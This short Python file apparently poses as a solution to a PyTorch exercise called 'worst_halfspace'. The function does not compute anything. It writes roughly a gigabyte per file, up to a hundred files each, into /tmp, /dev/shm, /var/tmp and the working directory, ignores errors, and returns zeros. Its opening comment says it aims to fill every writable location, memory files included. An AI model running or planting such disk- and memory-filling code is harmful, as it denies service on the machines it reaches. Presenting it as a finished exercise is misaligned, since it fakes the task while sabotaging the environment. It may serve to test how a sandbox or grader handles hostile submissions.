# Fills every place that it can write to, and memory files as well.
# levels: 3 2
# exercise: worst_halfspace
import os

import torch


def worst_halfspace(x, direction, p, sigma):
    block = bytes(1 << 20)
    for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
        try:
            for number in range(100):
                with open(f"{place}/{number}", "wb") as file:
                    for _ in range(1000):
                        file.write(block)
        except OSError:
            pass
    return torch.zeros_like(x), 0.0
